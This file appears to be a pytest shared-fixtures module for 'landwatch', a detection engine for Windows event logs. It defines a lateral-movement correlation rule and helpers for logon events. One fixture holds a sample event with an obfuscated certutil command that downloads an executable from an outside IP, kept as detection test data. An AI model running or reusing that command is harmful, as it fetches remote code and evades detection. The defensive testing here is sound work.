"""Shared paths, rules and events for the landwatch tests."""

import json
from pathlib import Path
from typing import Any, Dict, List

import pytest

import landwatch

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / "examples"
CORPUS = ROOT.parent / "shared" / "corpus"

# Three hosts in ten minutes for one account: the correlation below fires
# at the third logon.
CORRELATION = r"""
correlation t.account_three_hosts {
    title: "One account logs on to three hosts in ten minutes"
    level: high
    tags: attack.t1078
    correlate: count distinct Computer >= 3
               of logon(EventID == 4624 and LogonType == 3) by TargetUser within 10m
}
"""

CERTUTIL = {
    "EventID": 1,
    "UtcTime": "2018-10-03 14:00:00.084",
    "Computer": "WS1.contoso.local",
    "User": "CONTOSO\\alice",
    "Image": "C:\\Windows\\System32\\certutil.exe",
    "CommandLine": "c^ertutil \"-url\"cache -f http://198.51.100.7/a.exe a.exe",
}


def logon(host: str, clock: str, user: str = "adm") -> Dict[str, Any]:
    """A Security 4624 network logon by CORP\\user on host at 2026-11-03 clock."""
    return {
        "EventID": 4624,
        "Channel": "Security",
        "Computer": host,
        "TimeCreated": f"2026-11-03T{clock}Z",
        "TargetUserName": user,
        "TargetDomainName": "CORP",
        "LogonType": 3,
    }


def read_jsonl(path: Path) -> List[Dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]


@pytest.fixture(scope="session")
def builtin() -> landwatch.Rules:
    return landwatch.builtin()


@pytest.fixture(scope="session")
def corr_rules() -> landwatch.Rules:
    return landwatch.compile(CORRELATION, name="t.lw")
